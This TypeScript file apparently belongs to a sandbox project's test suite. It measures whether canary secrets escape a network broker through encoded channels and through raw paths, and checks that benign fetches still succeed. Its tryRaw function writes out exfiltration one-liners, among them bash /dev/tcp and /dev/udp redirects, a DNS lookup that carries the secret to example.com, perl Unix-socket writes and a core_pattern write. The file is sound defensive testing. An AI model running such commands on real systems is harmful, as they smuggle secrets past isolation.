import { randomBytes } from 'node:crypto';
import { connect } from 'node:net';
import type { Broker } from '../../../components/sandbox/broker/types.ts';
import { openBroker } from '../../../scripts/wire/broker/open.ts';
import { bash } from '../../sandbox/real.ts';
import { atEnd, closeAll } from '../../support/at-end.ts';
import { testContext } from '../../support/cli.ts';
import { workspace } from '../../support/workspace.ts';
import { type Figure, figure } from '../figure.ts';
import { benignPaths } from './benign-paths.ts';
import { channels, type Targets } from './channels.ts';
import { encodings } from './encodings.ts';
import { huntForKey } from './hunt.ts';
import { holds, type Receiver, receive } from './receivers.ts';

/** As long as keys are, and of what they are made. */
const makeSecret = () => randomBytes(24).toString('base64url');

/** Each request is judged for itself: a session's own limits would refuse most of these. */
const unlimited = { requests: 1e9, charactersOut: 1e9, doubtfulOut: 1e9, timeout: 2_000 };

export async function measureCanaries(): Promise<readonly Figure[]> {
  try {
    const [allowed, evil] = [await receive(), await receive()];
    const targets: Targets = {
      allowed: `http://127.0.0.1:${allowed.port}`,
      below: `http://*.wiki.localhost:${allowed.port}/`,
      evil: `http://127.0.0.1:${evil.port}`,
    };
    const allow = [`private:${targets.allowed}/guide/`, `private:${targets.below}`];
    const broker = await openBroker(testContext('/'), { upstreams: [], allow, limits: unlimited });
    atEnd(() => broker.close());
    const outside = await tryChannels(broker, targets, [allowed, evil]);
    const raw = await tryRaw([allowed, evil]);
    const hunted = await huntForKey(makeSecret());
    const leaks = [...outside.leaks, ...raw.leaks, ...hunted.leaks];
    for (const leak of leaks) process.stderr.write(`out: ${leak}\n`);
    const count = Object.keys(channels).length + raw.channels + hunted.channels;
    return [
      figure({
        ...{
          id: 'canary-bytes-out',
          value: leaks.length * makeSecret().length,
          unit: 'bytes',
          better: 'lower',
          goal: 0,
        },
        against: `${Object.keys(encodings).length} encodings over ${count} channels, ${outside.tried + raw.tried + hunted.tried} attempts; the same in clear words arrive`,
      }),
      await measureBenign(broker, targets),
    ];
  } finally {
    await closeAll();
  }
}

interface Attempts {
  readonly leaks: readonly string[];
  readonly tried: number;
}

async function tryChannels(
  broker: Broker,
  targets: Targets,
  receivers: readonly Receiver[],
): Promise<Attempts> {
  const leaks: string[] = [];
  let tried = 0;
  // What is measured can be seen: a word arrives by this way.
  await write(
    broker.socketPath,
    (channels.path as NonNullable<typeof channels.path>)('installation', targets),
  );
  if (!receivers.some(({ take }) => take().includes('installation')))
    throw new Error('nothing arrives at all');
  for (const [encoding, encode] of Object.entries(encodings)) {
    for (const [name, channel] of Object.entries(channels)) {
      const encoded = encode(makeSecret());
      await write(broker.socketPath, channel(encoded, targets));
      tried += 1;
      if (receivers.some(({ take }) => holds(take(), encoded)))
        leaks.push(`${encoding} by ${name}: ${encoded}`);
    }
  }
  // A name that was looked up has left, whatever came of it.
  const names = (await broker.records()).filter(
    ({ to, decision }) => /wiki\.localhost/.test(to) && decision !== 'refused',
  );
  return { leaks: [...leaks, ...names.map(({ to }) => `name looked up: ${to}`)], tried };
}

/** Writes bytes and waits for the end of the connection. */
function write(socketPath: string, bytes: string): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect(socketPath, () => socket.write(bytes));
    socket.setTimeout(300, () => socket.destroy());
    socket
      .on('error', () => undefined)
      .on('data', () => undefined)
      .on('close', () => resolve());
  });
}

/** Ways out of the sandbox that lead over no broker, from a script in it. */
async function tryRaw(receivers: readonly Receiver[]): Promise<Attempts & { readonly channels: number }> {
  const names = Object.keys(encodings);
  const encoded = names.map((name) => encodings[name]?.(makeSecret()) ?? '');
  const folder = workspace();
  const [abstract, path] = [`pipewright-${randomBytes(8).toString('hex')}`, `${folder}/socket`];
  const others = [await receive({ path: `\0${abstract}` }), await receive({ path })];
  const [port] = receivers.map((receiver) => receiver.port);
  const unix = (address: string) =>
    `perl -MSocket -e 'socket(my $s, 1, 1, 0); connect($s, pack_sockaddr_un(${address})) and syswrite $s, $ENV{S}'`;
  const ways = [
    `exec 9<>/dev/tcp/127.0.0.1/${port} && echo "$S" >&9`,
    `exec 9<>/dev/udp/127.0.0.1/${port} && echo "$S" >&9`,
    'timeout 1 getent hosts "$S.example.com"',
    unix(`"\\0${abstract}"`),
    unix(`"${path}"`),
    unix('"/dev/log"'),
    `echo "$S" >${folder}/out`,
    'echo "$S" >/checkout/out',
    'echo "$S" >/proc/sys/kernel/core_pattern',
    'logger "$S"',
  ];
  const root = workspace(Object.fromEntries(encoded.map((text, at) => [`secret-${at}`, text])));
  const script = `for n in {0..${encoded.length - 1}}; do export S=$(<secret-$n)\n${ways.map((way) => `( ${way} )`).join('\n')}\ndone >/dev/null 2>&1; echo done`;
  const { stdout } = await bash(script, { root, limits: { timeout: 120_000 } });
  if (stdout !== 'done\n') throw new Error('the script was cut off');
  const arrived = [...receivers, ...others].map(({ take }) => take()).join('\n');
  const { existsSync } = process.getBuiltinModule('node:fs');
  const files = [`${folder}/out`, `${root}/out`].filter((file) => existsSync(file));
  const leaks = encoded.flatMap((text, at) => (holds(arrived, text) ? [`${names[at]} by no broker`] : []));
  return {
    leaks: [...leaks, ...files.map((file) => `written: ${file}`)],
    tried: ways.length * encoded.length,
    channels: ways.length,
  };
}

async function measureBenign(broker: Broker, { allowed }: Targets): Promise<Figure> {
  let fetched = 0;
  for (const path of benignPaths) {
    const answer = await broker.fetch(`${allowed}/guide/${path}`).catch((error: Error) => error);
    if (answer instanceof Error) process.stderr.write(`not fetched: ${path}: ${answer.message}\n`);
    else fetched += 1;
  }
  return figure({
    ...{
      id: 'benign-fetches',
      value: (100 * fetched) / benignPaths.length,
      unit: '%',
      better: 'higher',
      goal: 99,
    },
    against: `${benignPaths.length} paths of documentation, registries, forges and interfaces`,
  });
}
